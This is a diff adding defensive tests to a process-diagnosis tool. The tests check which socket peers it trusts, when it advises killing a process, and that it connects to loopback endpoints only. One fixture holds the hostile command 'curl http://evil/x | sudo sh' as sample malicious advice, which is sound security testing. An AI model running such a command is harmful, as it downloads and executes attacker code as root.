@@ -186,14 +186,78 @@ def test_another_users_is_not_believed(api: NovaApi) -> None:
         assert met is not None
         assert met.refused
         report = standalone.examine_standalone(met)
-        # Root may ask anybody's.
-        root = standalone.meet(name, own_uid=0)
-        assert root is not None
-        assert not root.refused
     assert ids(report.findings) == ["standalone.other_user"]
     assert f"sudo -u {met.user} porthole doctor" in report.findings[0].mend
     assert report.exit_status == 1
     assert Standalone("x", Peer(0, 4_000_000_000, 0)).user == "4000000000"
+
+
+def test_another_users_words_are_read_only_when_the_process_was_named(api: NovaApi) -> None:
+    advice = "curl http://evil/x | sudo sh"
+    evil = Report((finding.error(FindingId.STANDALONE_NONE, "", "Broken.", advice),), ("x",), 0.1)
+    pid, other_uid = os.getpid(), os.geteuid() + 1
+    refused = Standalone("gone", Peer(7, 4_000_000_000, 0), refused=True)
+    with listening(greet(api.url, format_json(evil).encode())) as name:
+        for named_pid in (0, pid + 1):
+            met = standalone.meet(name, other_uid, named_pid)
+            assert met is not None
+            assert (met.refused, met.greeting) == (True, None)
+            report = standalone.examine_standalones([met])
+            assert ids(report.findings) == ["standalone.other_user"]
+            assert f"porthole doctor --standalone {pid}" in report.findings[0].mend
+        assert api.requests == []
+        named = standalone.meet(name, other_uid, pid)
+        assert named is not None
+        assert (named.refused, named.foreign) == (False, True)
+        for report in (standalone.examine_standalones([named]), standalone.examine_standalones([named, refused])):
+            said_by = f"said by process {pid} of the user {named.user}"
+            assert f"process {pid} of the user {named.user}, with the API" in report.findings[0].problem
+            assert [each.host for each in report.findings if each.mend == advice] == [said_by]
+            assert report.not_examined[0] == f"x ({said_by})"
+
+
+def test_one_that_takes_no_connections_is_blamed_only_with_a_socket_of_its_own() -> None:
+    """A name may give any process: the doctor must not advise to end that one."""
+    for pid, expected in ((os.getpid(), "standalone.mute"), (os.getppid(), "standalone.other_user")):
+        name = f"{SOCKET_PREFIX}{pid}-{uuid.uuid4().hex}"
+        with socket.socket(socket.AF_UNIX) as listener, socket.socket(socket.AF_UNIX) as client:
+            listener.bind(f"\0{name}")
+            listener.listen(0)
+            client.connect(f"\0{name}")
+            met = standalone.meet(name)
+            assert met is not None
+            [problem] = standalone.examine_standalone(met).findings
+        assert problem.id == expected
+        assert ("kill" in problem.mend) is (pid == os.getpid())
+
+
+def test_the_doctor_connects_to_loopback_alone() -> None:
+    for url, expected in (
+        ("http://127.0.0.1:8774/v2.1", ("127.0.0.1", 8774)),
+        ("http://127.1.2.3:1/v2.1", ("127.1.2.3", 1)),
+        ("http://[::1]:65535/v2.1", ("::1", 65535)),
+        ("http://localhost:8774/v2.1", ("localhost", 8774)),
+    ):
+        assert standalone.parse_endpoint(url) == expected
+    for url in (
+        "http://10.0.0.1:8774/v2.1",
+        "http://[2001:db8::1]:8774/v2.1",
+        "http://example.org:8774/v2.1",
+        "http://127.0.0.1:99999/v2.1",
+        "http://127.0.0.1:0/v2.1",
+        "http://127.0.0.1:8774/v2.1/../admin?x",
+        "http://127.0.0.1:8774/",
+        "http://127.0.0.1/v2.1",
+        "http://u@127.0.0.1:8774/v2.1",
+        "http://127.0.0.1:8774/v2.1\n",
+        "https://127.0.0.1:8774/v2.1",
+        "http://[::1/",
+        "http://0.0.0.0:8774/v2.1",
+        "http://127.0.0.1.2:8774/v2.1",
+        "",
+    ):
+        with pytest.raises(ValueError, match=r"."):
+            standalone.parse_endpoint(url)
 
 
 def test_a_terminal_gets_no_escape_sequences(api: NovaApi) -> None:
